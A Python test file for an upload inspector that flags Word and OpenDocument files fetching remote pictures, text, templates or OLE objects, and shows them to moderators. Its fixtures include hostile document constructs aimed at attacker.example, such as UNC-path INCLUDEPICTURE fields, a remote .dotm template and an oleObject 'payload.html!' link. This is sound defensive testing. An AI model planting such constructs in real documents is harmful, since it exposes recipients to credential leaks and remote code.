"""Remote resources a document fetches by itself are shown to moderators, however they are written: Word fields
that include a picture or text from an address or a UNC path, and OpenDocument links to another machine."""

import io

import pytest

from tests.document_files import docx, odt
from tests.security.hostile import _complex_field, _docx_with_runs
from uploads.inspection import Finding, inspect_file


def findings(content):
    found = inspect_file(io.BytesIO(content))
    assert found.refusal == ""
    return found.findings


@pytest.mark.parametrize(
    ("instruction", "detail"),
    [
        (
            r' INCLUDEPICTURE "http://attacker.example/pixel.png" \d \* MERGEFORMAT ',
            "includepicture: http://attacker.example/pixel.png",
        ),
        (
            r' INCLUDETEXT "\\\\attacker.example\\share\\text.docx" ',
            r"includetext: \\\\attacker.example\\share\\text.docx",
        ),
        (r" INCLUDEPICTURE \\attacker.example\share\pixel.png ", r"includepicture: \\attacker.example\share\pixel.png"),
        (
            r' LINK Excel.Sheet.12 "//attacker.example/share/book.xlsx" "Sheet1!R1C1" \a ',
            "link: //attacker.example/share/book.xlsx",
        ),
        (
            r' INCLUDEPICTURE "http://attacker.example/pixel.png" \\d \\* MERGEFORMAT ',
            "includepicture: http://attacker.example/pixel.png",
        ),
    ],
    ids=["includepicture-url", "includetext-unc", "unquoted-unc", "link-network-path", "switches-doubled"],
)
def test_a_field_that_fetches_from_another_machine_is_a_remote_resource(instruction, detail):
    assert findings(_docx_with_runs(_complex_field(instruction))) == (Finding("external_resource", detail),)


@pytest.mark.parametrize(
    "instruction",
    [r' INCLUDEPICTURE "C:\\Users\\me\\logo.png" \d ', " INCLUDEPICTURE logo.png ", ' HYPERLINK "http://example.org" '],
    ids=["local-path", "relative", "hyperlink"],
)
def test_a_field_that_fetches_nothing_remote_is_not_shown(instruction):
    assert findings(_docx_with_runs(_complex_field(instruction))) == ()


@pytest.mark.parametrize(
    "target",
    [r"\\attacker.example\share\pixel.png", "//attacker.example/share/pixel.png", "http://attacker.example/p.png"],
)
def test_an_odt_picture_on_another_machine_is_a_remote_resource(target):
    body = f'<draw:frame><draw:image xlink:href="{target}" xlink:type="simple"/></draw:frame>'

    assert findings(odt(body=body)) == (Finding("external_resource", f"image: {target}"),)


@pytest.mark.parametrize(
    ("kind", "target", "code"),
    [
        ("attachedTemplate", "http://attacker.example/t.dotm", "external_code"),
        ("oleObject", "http://attacker.example/payload.html!", "external_code"),
        ("image", "http://attacker.example/pixel.png", "external_resource"),
    ],
)
def test_a_remote_template_or_object_is_told_from_a_remote_picture(kind, target, code):
    found = findings(docx(relationships=[(kind, target, True)]))

    assert found == (Finding(code, f"{kind.lower()}: {target}"),)
    assert (
        found[0].label
        == {
            "external_code": "remote template or object fetched when opened (it can run code)",
            "external_resource": "remote resource fetched when opened",
        }[code]
    )
